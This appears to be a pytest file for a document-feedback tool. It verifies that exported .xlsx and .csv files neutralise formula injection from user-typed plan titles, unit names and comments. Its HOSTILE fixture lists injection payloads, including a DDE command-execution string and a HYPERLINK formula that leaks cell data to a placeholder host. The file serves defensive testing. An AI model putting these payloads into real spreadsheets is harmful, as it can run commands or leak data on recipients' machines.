"""No formula from any user text in any .xlsx or .csv we write, on every sheet."""
from __future__ import annotations

import csv
import re
import zipfile
from datetime import date

import openpyxl
import pytest

from exports.units_registry import import_registry, write_registry
from feedback.outline import parse_lines
from storage.project import Project
from ui.cli import run

HOSTILE = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"点此\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           " =1+1", "\t=A1"]


@pytest.fixture
def hostile_project(tmp_path):
    """A plan title, unit names, a category and comments typed as formulas."""
    path = tmp_path / "项目.yjt"
    project = Project.create(path, parse_lines(["=行动方案", "一、总体要求", "1.坚持问题导向。"]))
    project.update_plan(title="=1+1行动方案", drafting_unit="@市发展改革委")
    project.units.add_category("=类别")
    project.add_units([dict(name=name, category="=类别" if i % 2 else "市级部门") for i, name in enumerate(HOSTILE)])
    project.add_round(sent_on=date(2024, 3, 1), deadline=date(2024, 3, 15), recipients=[u.id for u in project.units()])
    project.add_comments([dict(round_number=1, unit_id=u.id, clause_ref="总体意见", body=u.name,
                               reason="=reason", proposed_wording="-改为") for u in project.units()])
    project.close()
    return path


def formula_cells(path) -> list[str]:
    """Every cell of every sheet that is a formula or formula-like text without the quote prefix."""
    found = []
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<(x:)?f[ >]", package.read(name)):
                found.append(f"{name}: <f>")
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.lstrip(" \t\r\n\u3000")[:1] in ("=", "+", "-", "@"):
                    if cell.data_type == "f" or not cell.quotePrefix:
                        found.append(f"{sheet.title}!{cell.coordinate}: {value}")
    return found


def test_forms_in_files_and_in_one_workbook(hostile_project, tmp_path):
    assert run(["forms", str(hostile_project), "--out", str(tmp_path / "表")]) == 0
    files = sorted((tmp_path / "表").glob("*.xlsx"))
    assert len(files) == len(HOSTILE) + 1  # and the blank form for units not on the list
    for path in files:
        assert formula_cells(path) == [], path.name
    assert run(["forms", str(hostile_project), "--out", str(tmp_path / "合"), "--single-workbook"]) == 0
    for path in (tmp_path / "合").glob("*.xlsx"):
        assert formula_cells(path) == []
        assert openpyxl.load_workbook(path).worksheets[0]["A1"].value.startswith("《=1+1行动方案")


def test_the_ledger_on_both_sheets(hostile_project, tmp_path):
    out = tmp_path / "汇总处理表.xlsx"
    assert run(["ledger", str(hostile_project), "--out", str(out)]) == 0
    assert formula_cells(out) == []
    book = openpyxl.load_workbook(out)
    assert book.worksheets[0]["A1"].value.startswith("《=1+1行动方案")
    assert len(book.worksheets) == 2


def test_the_unit_registry_as_xlsx_and_csv_and_back(hostile_project, tmp_path):
    with Project.open(hostile_project) as project:
        names = sorted(u.name for u in project.units())
        xlsx = write_registry(project, tmp_path / "名录.xlsx")
        assert formula_cells(xlsx) == []
        exported = write_registry(project, tmp_path / "名录.csv")
    rows = list(csv.reader(exported.read_text(encoding="utf-8-sig").splitlines()))
    for row in rows[1:]:
        for field in row:
            assert field[:1] not in ("=", "+", "-", "@") and not re.match(r"\s*[=+\-@]", field), field
    assert rows[1][0] == "'" + HOSTILE[0]
    with Project.open(hostile_project) as project:  # read back: the same names, nothing new
        result = import_registry(project, exported)
        assert sorted(u.name for u in project.units()) == names
    assert result is not None
